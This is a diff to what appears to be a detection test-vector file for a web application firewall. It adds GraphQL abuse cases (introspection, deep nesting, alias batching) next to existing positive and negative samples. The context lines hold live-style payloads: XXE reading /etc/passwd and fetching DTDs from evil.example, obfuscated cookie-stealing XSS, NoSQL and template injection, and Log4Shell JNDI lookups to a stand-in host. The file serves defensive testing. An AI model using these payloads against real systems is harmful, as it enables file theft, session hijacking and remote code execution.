@@ -6,6 +6,7 @@ def ua(s): return {"method": "GET", "uri": "/", "headers": [["User-Agent", s]]}
 def uri(u, method="GET"): return {"method": method, "uri": u}
 def hdr(name, val): return {"method": "GET", "uri": "/", "headers": [[name, val]]}
 def body(ct, b, method="POST"): return {"method": method, "uri": "/api", "headers": [["Content-Type", ct]], "body": b}
+def gq(q): return {"method": "POST", "uri": "/graphql", "headers": [["Content-Type", "application/json"]], "body": json.dumps({"query": q})}
 def upload(name):
     b = "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--XyZ--\r\n" % name
     return {"method": "POST", "uri": "/upload", "headers": [["Content-Type", "multipart/form-data; boundary=XyZ"]], "body": b}
@@ -83,6 +84,10 @@ V = {
  "rp-unc-001": (["\\\\attacker.example\\share\\x.dll", "file://///evil.example/share", "\\\\127.0.0.1@SSL@443\\DavWWWRoot\\a", "\\\\?\\UNC\\host\\c$", "file://fileserver/public/a.txt"], ["C:\\Users\\me\\file.txt", "regex \\\\d+ matches digits", "file:///home/me/notes.txt", "a\\\\b"]),
  "rp-xxe-001": ([body("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x>&x;</x>"), body("text/xml", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/d.dtd\"> %p;]><r/>"), "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>"], ["<!DOCTYPE html><html></html>", "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>", "the entity system of the game"]),
  "rp-xss-007": (["top?.[\"al\"+\"ert\"](1)", "window['ev'+'al']('x')", "self?.alert?.(1)", "[].sort.call`${alert}1`", "(document)[\"cookie\"]", "document /*x*/ . cookie", "(![]+[])[+!+[]]", "top['alert'](1)"], ["JavaScript: the good parts", "window['dataLayer'] = window['dataLayer'] || []", "![](image.png) look at this", "user?.name ?? 'guest'", "cookies and cream", "document.getElementById('x')", "the window shop top ten"]),
+ "rp-graphql-001": ([gq("{ __schema { types { name } } }"), gq("query { __type(name: \"User\") { fields { name } } }")], [gq("{ user(id: 1) { __typename name } }"), gq("{ schema { version } }")]),
+ "rp-graphql-002": ([gq("{ a { b { c { d { e { f { g { h { i { j { k { l } } } } } } } } } } } }")], [gq("{ a { b { c { d } } } }"), gq("{ a { b } c { d } e { f } g { h } i { j } k { l } m { n } o { p } q { r } s { t } }")]),
+ "rp-graphql-003": ([gq("{ " + " ".join("a%d: user(id: %d) { id }" % (i, i) for i in range(20)) + " }")], [gq("{ me: user(id: 1) { id } them: user(id: 2) { id } }"), gq("query Q($id: ID!, $n: Int) { user(id: $id) { posts(first: $n) { title } } }")]),
+ "rp-graphql-004": ([gq(" ".join("query q%d { me { id } }" % i for i in range(6)))], [gq("query A { me { id } } query B { you { id } }"), gq("mutation { addPost(title: \"query mutation query\") { id } }")]),
  "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)", "', $where: '1 == 1'", "x', $or: [ {}, { 'a':'a", "';it=new Date();do{pt=new Date();}while(pt-it<5000);"], ["price $10", "where is my order", "costs $5: cheap", "john+order@x.com", "it's done; start the build"]),
  "rp-ssti-001": (["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"], ["{{ name }}", "costs ${price}"]),
  "rp-jndi-001": (["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}"], ["${HOME}", "jndi docs"]),
